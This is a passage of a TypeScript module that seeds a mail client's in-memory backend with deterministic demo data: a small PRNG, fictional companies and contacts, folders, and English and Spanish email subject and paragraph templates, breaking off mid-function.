/**
 * Deterministic demo data for `MemoryMailBackend`: the same seed, size and `now` always give byte-identical data.
 *
 * Summaries are generated eagerly (100,000 in well under two seconds); bodies, HTML and attachment bytes are built
 * lazily from each message's own seed when a message is opened. Body text is made of interned paragraphs
 * ("segments") so a text search can test each distinct paragraph once instead of every message's body.
 */
import type {
  Address,
  Draft,
  Flags,
  FolderRole,
  LinkContext,
  MailServerSettingsInput,
  ObjectLinkConfig,
  RecordRef,
} from '../core/index.js';
import { PUBLIC_MAIL_DOMAINS, htmlToPlainText, snippetOf } from '../core/index.js';

// ---------------------------------------------------------------------------------------------------------------
// Randomness

/** mulberry32: a tiny, fast PRNG with a 32-bit state; good enough for demo data, and the same everywhere. */
export function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A 32-bit seed from a number or any string (FNV-1a), so `'demo'` and `42` are both valid seeds. */
export function hashSeed(seed: number | string): number {
  const text = String(seed);
  let hash = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) {
    hash ^= text.charCodeAt(i);
    hash = Math.imul(hash, 0x01000193);
  }
  return hash >>> 0;
}

/** Convenience wrapper over a PRNG stream. */
export class Rng {
  readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  int(max: number): number {
    return Math.floor(this.next() * max);
  }
  between(min: number, max: number): number {
    return min + this.int(max - min + 1);
  }
  chance(probability: number): boolean {
    return this.next() < probability;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  /** A fresh 32-bit seed for a sub-stream (a message's lazily built body). */
  fork(): number {
    return (this.next() * 4294967296) >>> 0;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// The stored shapes shared with the backend

export interface StoredPart {
  id: string;
  filename: string;
  contentType: string;
  contentId?: string;
  inline: boolean;
  bytes: Uint8Array;
}

export interface StoredBody {
  text?: string;
  html?: string;
  parts: StoredPart[];
  /** Headers beyond the ones derived from the summary (List-Unsubscribe, X-Mailer...). */
  extraHeaders: { name: string; value: string }[];
}

export type BodyKind = 'plain' | 'html' | 'newsletter' | 'inline';

export interface AttachmentPlan {
  filename: string;
  contentType: string;
  /** Bytes of the generated file; the generator pads to roughly this. */
  size: number;
}

/** How to rebuild a seeded body: everything else comes from the summary and `seed`. */
export interface BodyRecipe {
  kind: BodyKind;
  seed: number;
  lang: Lang;
  attachments: AttachmentPlan[];
  /** Sender organisation, for signatures. */
  org?: string;
}

export interface StoredMessage {
  id: string;
  folderId: string;
  /** RFC 5322 Message-ID with angle brackets. */
  messageId: string;
  threadId: string;
  from: Address | null;
  to: Address[];
  cc: Address[];
  bcc: Address[];
  replyTo: Address[];
  subject: string;
  /** Epoch milliseconds; the sort key with `id`. */
  time: number;
  size: number;
  flags: Flags;
  hasAttachments: boolean;
  inReplyTo?: string;
  references: string[];
  /** Seeded bodies: paragraph indices in the shared `TextPool`, joined by blank lines. */
  segments?: number[];
  recipe?: BodyRecipe;
  /** Every other body is kept as is. */
  body?: StoredBody;
  /** Lower-cased body text of a kept body, for search. */
  lcBody?: string;
  /** Lower-cased search keys: sender, recipients (to + cc), subject. */
  lcFrom: string;
  lcTo: string;
  lcSubject: string;
  snippet?: string;
  /** A saved draft, as the composer gave it. */
  draft?: Draft;
  /** The original bytes of an imported message. */
  raw?: Uint8Array;
}

/** Interned paragraphs with their lower-case form: seeded bodies share them, and search tests each one once. */
export class TextPool {
  readonly texts: string[] = [];
  readonly lower: string[] = [];
  private readonly index = new Map<string, number>();

  intern(text: string): number {
    let id = this.index.get(text);
    if (id === undefined) {
      id = this.texts.length;
      this.texts.push(text);
      this.lower.push(text.toLowerCase());
      this.index.set(text, id);
    }
    return id;
  }

  join(segments: readonly number[]): string {
    return segments.map((id) => this.texts[id]!).join('\n\n');
  }
}

export interface SeedFolder {
  id: string;
  name: string;
  parentId: string | null;
  role: FolderRole | null;
}

/** A business record of the host application (customers, suppliers). */
export type BusinessRecord = RecordRef & { email: string | null };

export interface SeedLink extends LinkContext {
  messageIds: string[];
}

export interface SeedOptions {
  /** Any number or string; the same seed gives the same data. Default `1`. */
  seed?: number | string;
  /** Inbox size; the other folders scale with it. Default 2000. `0` gives empty folders. */
  messages?: number;
  /** The moment the data is generated "at". Default 2026-11-20T09:30:00Z. */
  now?: string | Date | number;
}

export interface SeedData {
  now: number;
  identities: Address[];
  folders: SeedFolder[];
  messages: StoredMessage[];
  pool: TextPool;
  records: BusinessRecord[];
  linkConfigs: ObjectLinkConfig[];
  links: SeedLink[];
}

export const DEFAULT_SEED_NOW = '2026-11-20T09:30:00Z';
export const DEFAULT_SEED_MESSAGES = 2000;

// ---------------------------------------------------------------------------------------------------------------
// Folders, identities, people

export const SEED_FOLDERS: readonly SeedFolder[] = [
  { id: 'inbox', name: 'Inbox', parentId: null, role: 'inbox' },
  { id: 'drafts', name: 'Drafts', parentId: null, role: 'drafts' },
  { id: 'sent', name: 'Sent', parentId: null, role: 'sent' },
  { id: 'archive', name: 'Archive', parentId: null, role: 'archive' },
  { id: 'junk', name: 'Junk', parentId: null, role: 'junk' },
  { id: 'trash', name: 'Trash', parentId: null, role: 'trash' },
  { id: 'projects', name: 'Projects', parentId: null, role: null },
  { id: 'projects-acme', name: 'Acme', parentId: 'projects', role: null },
  { id: 'clientes', name: 'Clientes', parentId: null, role: null },
];

export const SEED_IDENTITIES: readonly Address[] = [
  { name: 'Dana Ortiz', address: 'dana.ortiz@example.com' },
  { name: 'Soporte Example', address: 'soporte@example.com' },
];

type Lang = 'en' | 'es';
type Kind = 'customer' | 'supplier' | 'colleague' | 'service' | 'individual' | 'spam';

interface Person {
  name: string;
  address: string;
  first: string;
  lang: Lang;
  kind: Kind;
  org?: string;
  /** `name address`, lower case: the shared search key of every message from this person. */
  lc: string;
  /** Shared, frozen: thousands of messages point at the same objects instead of copies (the backend never mutates them). */
  addr: Address;
  asList: Address[];
}

interface Company {
  name: string;
  domain: string;
  lang: Lang;
  kind: 'customer' | 'supplier';
  people: string[];
  /** Extra records sharing the domain: [title suffix, local part]. */
  departments?: [string, string][];
}

const COMPANIES: readonly Company[] = [
  {
    name: 'Acme Corporation',
    domain: 'acme.example',
    lang: 'en',
    kind: 'customer',
    people: ['John Smith', 'Emily Johnson', 'Michael Brown'],
    departments: [
      ['Billing', 'billing'],
      ['Logistics', 'logistics'],
    ],
  },
  {
    name: 'Contoso Ltd.',
    domain: 'contoso.test',
    lang: 'en',
    kind: 'customer',
    people: ['Sarah Davis', 'David Wilson'],
    departments: [['Accounts Payable', 'ap']],
  },
  {
    name: 'Globex',
    domain: 'globex.example',
    lang: 'en',
    kind: 'customer',
    people: ['Laura Taylor', 'James Anderson'],
  },
  {
    name: 'Initech',
    domain: 'initech.test',
    lang: 'en',
    kind: 'customer',
    people: ['Olivia Thomas', 'Robert Martin'],
    departments: [['IT', 'it']],
  },
  { name: 'Example Industries', domain: 'example.net', lang: 'en', kind: 'customer', people: ['Sophie Clarke'] },
  {
    name: 'Construcciones Iberia S.L.',
    domain: 'construcciones-iberia.example',
    lang: 'es',
    kind: 'customer',
    people: ['Javier Martín', 'Lucía Fernández', 'Carlos López'],
    departments: [
      ['Administración', 'administracion'],
      ['Obras', 'obras'],
    ],
  },
  {
    name: 'Talleres del Norte',
    domain: 'talleresnorte.example',
    lang: 'es',
    kind: 'customer',
    people: ['María José Sánchez', 'Pablo Romero'],
  },
  {
    name: 'Hoteles Costa Azul',
    domain: 'costaazul.example',
    lang: 'es',
    kind: 'customer',
    people: ['Elena Navarro', 'Sergio Díaz'],
    departments: [
      ['Reservas', 'reservas'],
      ['Facturación', 'facturacion'],
    ],
  },
  { name: 'Librería La Pluma', domain: 'lapluma.example', lang: 'es', kind: 'customer', people: ['Carmen Ruiz'] },
  {
    name: 'Clínica Dental Sonrisa',
    domain: 'sonrisa.test',
    lang: 'es',
    kind: 'customer',
    people: ['Álvaro Moreno', 'Marta Jiménez'],
  },
  {
    name: 'Northwind Traders',
    domain: 'northwind.example',
    lang: 'en',
    kind: 'supplier',
    people: ['Daniel Lee', 'Grace Walker'],
    departments: [['Orders', 'orders']],
  },
  {
    name: 'Fabrikam',
    domain: 'fabrikam.test',
    lang: 'en',
    kind: 'supplier',
    people: ['Thomas Hughes', 'Hannah Wright'],
  },
  { name: 'Wide World Importers', domain: 'wideworld.example', lang: 'en', kind: 'supplier', people: ['Chris Evans'] },
  {
    name: 'Papelería Central',
    domain: 'papeleria-central.example',
    lang: 'es',
    kind: 'supplier',
    people: ['Raúl Torres', 'Isabel Gil'],
    departments: [['Pedidos', 'pedidos']],
  },
  { name: 'Transportes Rápidos', domain: 'trapidos.example', lang: 'es', kind: 'supplier', people: ['Diego Vázquez'] },
  {
    name: 'Suministros Eléctricos Sol',
    domain: 'suministros-sol.test',
    lang: 'es',
    kind: 'supplier',
    people: ['Nuria Serrano', 'Andrés Molina'],
    departments: [['Comercial', 'comercial']],
  },
  {
    name: 'Imprenta Gráfica Moderna',
    domain: 'grafica-moderna.example',
    lang: 'es',
    kind: 'supplier',
    people: ['Rocío Herrera'],
  },
];

/** Customers and suppliers who write from public mail providers. */
const INDIVIDUALS: readonly [string, string, Lang, 'customer' | 'supplier'][] = [
  ['Pedro Álvarez', 'pedro.alvarez84@gmail.com', 'es', 'customer'],
  ['Jessica Moore', 'jess.moore@outlook.com', 'en', 'customer'],
  ['Rosa Castillo', 'rosacastillo@hotmail.es', 'es', 'customer'],
  ["Kevin O'Brien", 'kevin.obrien@gmail.com', 'en', 'customer'],
  ['Beatriz Ortega', 'bea.ortega@yahoo.es', 'es', 'customer'],
  ['Tom Baker', 'tombaker@outlook.com', 'en', 'customer'],
  ['Sofía Medina', 'sofia.medina.m@gmail.com', 'es', 'customer'],
  ['Luke Harris', 'luke.harris@gmail.com', 'en', 'customer'],
  ['Francisco Peña', 'fpena@outlook.es', 'es', 'customer'],
  ['Amy Collins', 'amy.collins@icloud.com', 'en', 'customer'],
  ['Jorge Ramos', 'jorge.ramos.fotografia@gmail.com', 'es', 'supplier'],
  ['Nick Foster', 'nick.foster.design@gmail.com', 'en', 'supplier'],
];

const COLLEAGUES: readonly [string, Lang][] = [
  ['Luis Romero', 'es'],
  ['Sarah Chen', 'en'],
  ['Iker Etxeberria', 'es'],
  ['Priya Patel', 'en'],
];

const SERVICES: readonly [string, string, Lang][] = [
  ['The Dev Digest', 'digest@newsletter.example', 'en'],
  ['Novedades Tienda Online', 'novedades@tienda.example', 'es'],
  ['CodeHub', 'notifications@codehub.example', 'en'],
  ['Banco Ejemplo', 'alertas@banco.example', 'es'],
  ['Travel Bookings', 'bookings@travel.example', 'en'],
];

const SPAMMERS: readonly [string, string, Lang][] = [
  ['Prize Department', 'winner@lottery-prize.example', 'en'],
  ['Ofertas Increíbles', 'ofertas@chollos.example', 'es'],
  ['Crypto Gains', 'profit@crypto-gains.test', 'en'],
];

function localPart(name: string): string {
  return name
    .normalize('NFD')
    .replace(/[\u0300-\u036f']/g, '')
    .toLowerCase()
    .split(' ')
    .join('.');
}

function person(name: string, address: string, lang: Lang, kind: Kind, org?: string): Person {
  const first = name.split(' ')[0]!;
  const addr = Object.freeze({ name, address });
  return {
    name,
    address,
    first,
    lang,
    kind,
    org,
    lc: `${name} ${address}`.toLowerCase(),
    addr,
    asList: Object.freeze([addr]) as Address[],
  };
}

function buildPeople(): Person[] {
  const people: Person[] = [];
  for (const company of COMPANIES) {
    for (const name of company.people) {
      people.push(person(name, `${localPart(name)}@${company.domain}`, company.lang, company.kind, company.name));
    }
  }
  for (const [name, address, lang, kind] of INDIVIDUALS) people.push(person(name, address, lang, 'individual', kind));
  for (const [name, lang] of COLLEAGUES)
    people.push(person(name, `${localPart(name)}@example.com`, lang, 'colleague', 'Example'));
  for (const [name, address, lang] of SERVICES) people.push(person(name, address, lang, 'service'));
  for (const [name, address, lang] of SPAMMERS) people.push(person(name, address, lang, 'spam'));
  return people;
}

/** 50-odd records: one per company, its departments (sharing the domain) and individuals on public domains. */
function buildRecords(): BusinessRecord[] {
  const records: BusinessRecord[] = [];
  const counters = { customer: 0, supplier: 0 };
  const add = (kind: 'customer' | 'supplier', title: string, email: string | null) => {
    const n = ++counters[kind];
    const objectName = kind === 'customer' ? 'customers' : 'suppliers';
    const objectId = `${kind === 'customer' ? 'C' : 'S'}${String(n).padStart(3, '0')}`;
    records.push({ objectName, objectId, title, email });
  };
  for (const company of COMPANIES) {
    add(company.kind, company.name, `${localPart(company.people[0]!)}@${company.domain}`);
    for (const [suffix, local] of company.departments ?? [])
      add(company.kind, `${company.name} (${suffix})`, `${local}@${company.domain}`);
    // A second contact as its own record, as CRMs often hold one record per person.
    if (company.people[1]) add(company.kind, company.people[1], `${localPart(company.people[1])}@${company.domain}`);
  }
  for (const [name, address, , kind] of INDIVIDUALS) add(kind, name, address);
  add('customer', 'Cliente sin correo S.A.', null);
  add('supplier', 'Proveedor sin correo', null);
  return records;
}

const LINK_CONFIGS: readonly ObjectLinkConfig[] = [
  {
    objectName: 'customers',
    primaryKey: 'CustomerId',
    emailField: 'Email',
    filterByDomain: true,
    ignoredDomains: [...PUBLIC_MAIL_DOMAINS],
    folderPath: '/srv/mail-elements/customers',
  },
];

// ---------------------------------------------------------------------------------------------------------------
// Topics: subjects and paragraphs in English and Spanish

interface Topic {
  subjects: string[];
  paragraphs: string[];
  attach?: { chance: number; types: AttachmentType[] };
  html?: number;
}

const PROJECTS = ['Atlas', 'Borealis', 'Cobalt', 'Delta', 'Helios', 'Orion'];
const MONTHS: Record<Lang, string[]> = {
  en: [
    'January',
    'February',
    'March',
    'April',
    'May',
    'June',
    'July',
    'August',
    'September',
    'October',
    'November',
    'December',
  ],
  es: [
    'enero',
    'febrero',
    'marzo',
    'abril',
    'mayo',
    'junio',
    'julio',
    'agosto',
    'septiembre',
    'octubre',
    'noviembre',
    'diciembre',
  ],
};
const WEEKDAYS: Record<Lang, string[]> = {
  en: ['Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday'],
  es: ['lunes', 'martes', 'miércoles', 'jueves', 'viernes'],
};
const CITIES: Record<Lang, string[]> = {
  en: ['London', 'Boston', 'Dublin', 'Toronto'],
  es: ['Madrid', 'Valencia', 'Sevilla', 'Bilbao', 'Zaragoza'],
};

const TOPICS: Record<Lang, Topic[]> = {
  en: [
    {
      subjects: ['Invoice {n}', 'Invoice {n} for {month}', 'Payment reminder: invoice {n}'],
      paragraphs: [
        'Please find attached the invoice for the services delivered in {month}.',
        'Payment is due within 30 days. Let me know if you need a purchase order number on it.',
        'We have updated our bank details; the new account is shown at the bottom of the invoice.',
        'Thanks again for your business, it is always a pleasure working with your team.',
      ],
      attach: { chance: 0.8, types: ['pdf'] },
    },
    {
      subjects: ['Meeting on {weekday}', 'Can we move our call to {weekday}?', "Agenda for {weekday}'s review"],
      paragraphs: [
        'Would {weekday} at 10:00 work for you? I have booked the small meeting room just in case.',
        'I would like to go through the open points of project {project} and agree on next steps.',
        'If the time does not suit you, feel free to propose another slot this week.',
        'I will send the video link an hour before we start.',
      ],
      html: 0.3,
    },
    {
      subjects: ['Project {project}: status update', '{project} milestone review', 'Quick question about {project}'],
      paragraphs: [
        'Here is the weekly status of project {project}: design is complete and development is on track.',
        'The integration tests found two issues that we are fixing now; neither affects the delivery date.',
        'We still need your feedback on the latest mock-ups before Friday.',
        'I have attached the updated plan with the new milestones for {month}.',
      ],
      attach: { chance: 0.35, types: ['docx', 'xlsx', 'png'] },
      html: 0.4,
    },
    {
      subjects: ['Your order {n} has shipped', 'Order {n} confirmation', 'Delivery of order {n} delayed'],
      paragraphs: [
        'Good news: your order has left our warehouse and should arrive within three working days.',
        'You can follow the shipment with the tracking number shown in your account.',
        'Unfortunately one item is back-ordered; we will ship it separately at no extra cost.',
      ],
      html: 0.6,
    },
    {
      subjects: ['Quote request for {project}', 'Updated quote', 'Pricing for next year'],
      paragraphs: [
        'Could you send us a quote for the items listed below, including delivery to our {city} office?',
        'We are comparing offers this month and would appreciate an answer by {weekday}.',
        'Volume discounts would make a big difference for us this time.',
      ],
      attach: { chance: 0.3, types: ['xlsx', 'pdf'] },
    },
    {
      subjects: ['Lunch next week?', 'Coffee on {weekday}?', 'Team dinner in {city}'],
      paragraphs: [
        'It has been a while! Are you free for lunch next week?',
        'There is a new place near the office that everyone recommends.',
        'Let me know which day suits you best and I will book a table.',
      ],
    },
    {
      subjects: ['Quarterly report Q{q}', 'Sales figures for {month}', 'Budget review'],
      paragraphs: [
        'Attached is the quarterly report with the sales and margin figures by region.',
        'Revenue grew compared with last quarter, mainly thanks to the new accounts in {city}.',
        'Please review the numbers before the board meeting on {weekday}.',
      ],
      attach: { chance: 0.7, types: ['xlsx', 'pdf', 'png'] },
      html: 0.3,
    },
    {
      subjects: ['Support ticket #{n}', 'Re-opened: ticket #{n}', 'Issue with the login page'],
      paragraphs: [
        'Since this morning some users cannot sign in; the page shows an error after entering the password.',
        'We have restarted the service and the problem seems to be gone, but we keep monitoring it.',
        'Could you confirm whether your team still sees the error?',
      ],
      attach: { chance: 0.25, types: ['png', 'zip'] },
    },
    {
      subjects: ['Trip to {city}', 'Travel plans for {month}', 'Hotel booking confirmation'],
      paragraphs: [
        'I have booked the flights for the visit to {city}; the details are in the attached itinerary.',
        'The hotel is ten minutes from the client office, breakfast included.',
        'Remember to bring the signed documents for the meeting.',
      ],
      attach: { chance: 0.4, types: ['pdf'] },
    },
  ],
  es: [
    {
      subjects: ['Factura {n}', 'Factura {n} de {month}', 'Recordatorio de pago: factura {n}'],
      paragraphs: [
        'Adjunto la factura correspondiente a los servicios prestados en {month}.',
        'El vencimiento es a 30 días. Si necesitáis un número de pedido en la factura, decídmelo.',
        'Hemos cambiado de cuenta bancaria; los nuevos datos aparecen al pie de la factura.',
        'Muchas gracias por confiar en nosotros un año más.',
      ],
      attach: { chance: 0.8, types: ['pdf'] },
    },
    {
      subjects: ['Reunión del {weekday}', '¿Podemos mover la llamada al {weekday}?', 'Orden del día para el {weekday}'],
      paragraphs: [
        '¿Te viene bien el {weekday} a las 10:00? He reservado la sala pequeña por si acaso.',
        'Me gustaría repasar los puntos abiertos del proyecto {project} y acordar los siguientes pasos.',
        'Si no te encaja la hora, proponme otro hueco esta semana.',
        'Mandaré el enlace de la videollamada una hora antes.',
      ],
      html: 0.3,
    },
    {
      subjects: ['Proyecto {project}: estado', 'Revisión del hito de {project}', 'Duda sobre {project}'],
      paragraphs: [
        'Te paso el estado semanal del proyecto {project}: el diseño está terminado y el desarrollo va según lo previsto.',
        'Las pruebas de integración encontraron dos incidencias que ya estamos corrigiendo; ninguna retrasa la entrega.',
        'Necesitamos vuestros comentarios sobre las últimas maquetas antes del viernes.',
        'Adjunto el plan actualizado con los nuevos hitos de {month}.',
      ],
      attach: { chance: 0.35, types: ['docx', 'xlsx', 'png'] },
      html: 0.4,
    },
    {
      subjects: [
        'Su pedido {n} ha sido enviado',
        'Confirmación del pedido {n}',
        'Retraso en la entrega del pedido {n}',
      ],
      paragraphs: [
        'Buenas noticias: su pedido ha salido de nuestro almacén y llegará en tres días laborables.',
        'Puede seguir el envío con el número de seguimiento que aparece en su cuenta.',
        'Lamentablemente un artículo está agotado; lo enviaremos por separado sin coste adicional.',
      ],
      html: 0.6,
    },
    {
      subjects: ['Solicitud de presupuesto para {project}', 'Presupuesto actualizado', 'Tarifas para el próximo año'],
      paragraphs: [
        '¿Nos podéis enviar un presupuesto de los artículos de la lista, con entrega en la oficina de {city}?',
        'Estamos comparando ofertas este mes y agradeceríamos una respuesta antes del {weekday}.',
        'Un descuento por volumen marcaría la diferencia esta vez.',
      ],
      attach: { chance: 0.3, types: ['xlsx', 'pdf'] },
    },
    {
      subjects: ['¿Comemos la semana que viene?', '¿Un café el {weekday}?', 'Cena de equipo en {city}'],
      paragraphs: [
        '¡Cuánto tiempo! ¿Tienes un hueco para comer la semana que viene?',
        'Han abierto un sitio nuevo cerca de la oficina que todo el mundo recomienda.',
        'Dime qué día te viene mejor y reservo mesa.',
      ],
    },
    {
      subjects: ['Informe trimestral T{q}', 'Cifras de ventas de {month}', 'Revisión del presupuesto'],
      paragraphs: [
        'Adjunto el informe trimestral con las cifras de ventas y margen por región.',
        'La facturación ha crecido respecto al trimestre anterior, sobre todo por las nuevas cuentas de {city}.',
        'Revisad los números antes del consejo del {weekday}, por favor.',
      ],
      attach: { chance: 0.7, types: ['xlsx', 'pdf', 'png'] },
      html: 0.3,
    },
    {
      subjects: ['Incidencia #{n}', 'Reabierta: incidencia #{n}', 'Problema con la página de acceso'],
      paragraphs: [
        'Desde esta mañana algunos usuarios no pueden entrar; la página da un error tras escribir la contraseña.',
        'Hemos reiniciado el servicio y parece resuelto, pero seguimos vigilándolo.',
        '¿Podéis confirmar si vuestro equipo sigue viendo el error?',
      ],
      attach: { chance: 0.25, types: ['png', 'zip'] },
    },
    {
      subjects: ['Viaje a {city}', 'Planes de viaje para {month}', 'Confirmación de la reserva de hotel'],
      paragraphs: [
        'He reservado los vuelos para la visita a {city}; tienes los detalles en el itinerario adjunto.',
        'El hotel está a diez minutos de la oficina del cliente, con desayuno incluido.',
        'Acuérdate de traer los documentos firmados para la reunión.',
      ],
      attach: { chance: 0.4, types: ['pdf'] },
    },
  ],
};

const NEWSLETTER_SUBJECTS: Record<Lang, string[]> = {
  en: ['This week in web development', 'Your {month} digest', '5 tools we loved this week', 'Weekly roundup #{n}'],
  es: ['Novedades de {month}', 'Ofertas de la semana', 'Lo más vendido este mes', 'Boletín semanal n.º {n}'],
};
const NOTIFICATION_SUBJECTS: Record<Lang, string[]> = {
  en: ['[CodeHub] New comment on pull request #{n}', 'Your booking {n} is confirmed', 'New sign-in to your account'],
  es: ['Nuevo movimiento en su cuenta', 'Aviso: recibo domiciliado {n}', 'Su código de verificación'],
};
const SPAM_SUBJECTS: Record<Lang, string[]> = {
  en: ['You have WON a prize!!!', 'Double your money in 24 hours', 'Final notice: claim your reward'],
  es: ['¡¡Has ganado un premio!!', 'Oferta exclusiva solo hoy', 'Última oportunidad: reclama tu regalo'],
};
const SERVICE_PARAGRAPHS: Record<Lang, string[]> = {
  en: [
    'Here are the highlights you might have missed this week.',
    'You are receiving this message because you subscribed with this address.',
    'If this was not you, please review your security settings.',
    'Click the button below to see all the details in your account.',
  ],
  es: [
    'Estas son las novedades que quizá te perdiste esta semana.',
    'Recibes este mensaje porque te suscribiste con esta dirección.',
    'Si no has sido tú, revisa la configuración de seguridad.',
    'Pulsa el botón para ver todos los detalles en tu cuenta.',
  ],
};
const GREETINGS: Record<Lang, string[]> = {
  en: ['Hi {first},', 'Hello {first},', 'Dear {first},'],
  es: ['Hola {first}:', 'Buenos días, {first}:', 'Hola, {first}:'],
};
const CLOSINGS: Record<Lang, string[]> = {
  en: ['Best regards,', 'Thanks,', 'Cheers,', 'Kind regards,'],
  es: ['Un saludo,', 'Gracias,', 'Saludos cordiales,', 'Un abrazo,'],
};

function fill(template: string, vars: Readonly<Record<string, string>>): string {
  return template.replace(/\{(\w+)\}/g, (whole, key: string) => vars[key] ?? whole);
}

// ---------------------------------------------------------------------------------------------------------------
// Generation

const HOUR = 3_600_000;
const DAY = 24 * HOUR;

/** How far back a folder of `n` messages reaches: a year for 2,000, about seven for 100,000. */
function spanFor(n: number): number {
  return 365 * DAY * Math.max(1, Math.log2(Math.max(n, 1) / 1000));
}

function nowOf(value: SeedOptions['now']): number {
  const time = new Date(value ?? DEFAULT_SEED_NOW).getTime();
  if (!Number.isFinite(time)) throw new RangeError(`[mail-elements] Invalid seed "now": ${String(value)}`);
  return time;
}

interface Generator {
  rng: Rng;
  pool: TextPool;
  now: number;
  people: Person[];
  me: Person;
  messages: StoredMessage[];
  counters: Map<string, number>;
  greetings: Map<string, number>;
  signoffs: Map<string, number>;
  paragraphs: Map<number, number>;
}

function nextId(gen: Generator, folderId: string): string {
  const n = (gen.counters.get(folderId) ?? 0) + 1;
  gen.counters.set(folderId, n);
  return `${folderId}-${n}`;
}

function messageIdFor(gen: Generator, id: string, domain: string): string {
  return `<${id}.${(gen.rng.fork() % 1_000_000).toString(36)}@${domain}>`;
}

function greeting(gen: Generator, lang: Lang, first: string, variant: number): number {
  const template = GREETINGS[lang][variant % GREETINGS[lang].length]!;
  const key = `${template}|${first}`;
  let id = gen.greetings.get(key);
  if (id === undefined) {
    id = gen.pool.intern(fill(template, { first }));
    gen.greetings.set(key, id);
  }
  return id;
}

function signoff(gen: Generator, lang: Lang, sender: Person, variant: number): number {
  const key = `${lang}|${variant}|${sender.address}`;
  let id = gen.signoffs.get(key);
  if (id === undefined) {
    const closing = CLOSINGS[lang][variant % CLOSINGS[lang].length]!;
    id = gen.pool.intern(`${closing}\n${sender.name}${sender.org ? `\n${sender.org}` : ''}`);
    gen.signoffs.set(key, id);
  }
  return id;
}

interface Vars {
  /** Indices of month, weekday, project and city: a numeric key for memoized paragraphs. */
  key: number;
  values: Record<string, string>;
}

function varsFor(rng: Rng, lang: Lang): Vars {
  const month = rng.int(12);
  const weekday = rng.int(WEEKDAYS[lang].length);
  const project = rng.int(PROJECTS.length);
  const city = rng.int(CITIES[lang].length);
  return {
    // Mixed radix (12 months, <= 5 weekdays, 6 projects, <= 5 cities): unique and below PARAGRAPH_VARIANTS.
    key: ((month * 5 + weekday) * 6 + project) * 5 + city,
    values: {
      n: String(rng.between(1000, 9999)),
      month: MONTHS[lang][month]!,
      weekday: WEEKDAYS[lang][weekday]!,
      project: PROJECTS[project]!,
      city: CITIES[lang][city]!,
      q: String(rng.between(1, 4)),
    },
  };
}

const PARAGRAPH_VARIANTS = 12 * 5 * 6 * 5;

/**
 * Template ids fixed by the tables' order, never by use: ids assigned on first use would make a seed's output depend on
 * which seeds ran before it in the same page.
 */
const TEMPLATE_IDS = new Map<string, number>(
  [...TOPICS.en, ...TOPICS.es].flatMap((topic) => topic.paragraphs).map((template, index) => [template, index]),
);

function templateId(template: string): number {
  const id = TEMPLATE_IDS.get(template);
  if (id === undefined) throw new Error(`[mail-elements] Unknown paragraph template: ${template}`);
  return id;
}

/** A paragraph filled with the message's variables, interned once per (template, variables). */
function paragraph(gen: Generator, template: string, vars: Vars): number {
  const key = templateId(template) * PARAGRAPH_VARIANTS + vars.key;
  let id = gen.paragraphs.get(key);
  if (id === undefined) gen.paragraphs.set(key, (id = gen.pool.intern(fill(template, vars.values))));
  return id;
}

type AttachmentType = 'pdf' | 'docx' | 'xlsx' | 'png' | 'zip';
const CONTENT_TYPES: Record<AttachmentType, string> = {
  pdf: 'application/pdf',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  png: 'image/png',
  zip: 'application/zip',
};
const FILE_STEMS: Record<Lang, Record<AttachmentType, string[]>> = {
  en: {
    pdf: ['invoice', 'itinerary', 'report', 'contract'],
    docx: ['proposal', 'minutes', 'plan'],
    xlsx: ['figures', 'budget', 'price-list'],
    png: ['screenshot', 'chart', 'diagram'],
    zip: ['logs', 'assets'],
  },
  es: {
    pdf: ['factura', 'itinerario', 'informe', 'contrato'],
    docx: ['propuesta', 'acta', 'plan'],
    xlsx: ['cifras', 'presupuesto', 'tarifas'],
    png: ['captura', 'grafico', 'esquema'],
    zip: ['registros', 'recursos'],
  },
};

function planAttachments(rng: Rng, lang: Lang, types: readonly AttachmentType[]): AttachmentPlan[] {
  const count = rng.chance(0.2) ? 2 : 1;
  const plans: AttachmentPlan[] = [];
  for (let i = 0; i < count; i++) {
    const type = rng.pick(types);
    const stem = rng.pick(FILE_STEMS[lang][type]);
    plans.push({
      filename: `${stem}-${rng.between(10, 99)}.${type}`,
      contentType: CONTENT_TYPES[type],
      size: type === 'png' ? 0 : rng.between(2, 48) * 1024,
    });
  }
  return plans;
}

interface Draw {
  from: Person;
  to: Person;
  lang: Lang;
  subject: string;
  segments: number[];
  recipe: BodyRecipe;
  seed: number;
}

/** Subject, paragraphs and recipe of one ordinary message from `from` to `to`. */
function drawContent(gen: Generator, from: Person, to: Person, rng: Rng): Draw {
  const lang = from.kind === 'colleague' || from === gen.me ? to.lang : from.lang;
  const vars = varsFor(rng, lang);
  const segments: number[] = [];
  let subject: string;
  let kind: BodyKind = 'plain';
  let attachments: AttachmentPlan[] = NONE;
  if (from.kind === 'service' || from.kind === 'spam') {
    const newsletter = from.address.startsWith('digest') || from.address.startsWith('novedades');
    subject = fill(
      rng.pick((from.kind === 'spam' ? SPAM_SUBJECTS : newsletter ? NEWSLETTER_SUBJECTS : NOTIFICATION_SUBJECTS)[lang]),
      vars.values,
    );
    segments.push(
      gen.pool.intern(rng.pick(SERVICE_PARAGRAPHS[lang])),
      gen.pool.intern(rng.pick(SERVICE_PARAGRAPHS[lang])),
    );
    kind = newsletter || from.kind === 'spam' ? 'newsletter' : 'html';
  } else {
    const topic = rng.pick(TOPICS[lang]);
    subject = fill(rng.pick(topic.subjects), vars.values);
    segments.push(greeting(gen, lang, to.first, rng.int(3)));
    const count = rng.between(1, Math.min(3, topic.paragraphs.length));
    const start = rng.int(topic.paragraphs.length);
    for (let i = 0; i < count; i++)
      segments.push(paragraph(gen, topic.paragraphs[(start + i) % topic.paragraphs.length]!, vars));
    segments.push(signoff(gen, lang, from, rng.int(4)));
    if (topic.attach && rng.chance(topic.attach.chance)) attachments = planAttachments(rng, lang, topic.attach.types);
    if (rng.chance(topic.html ?? 0.15)) kind = 'html';
    if (kind === 'html' && rng.chance(0.12)) kind = 'inline';
  }
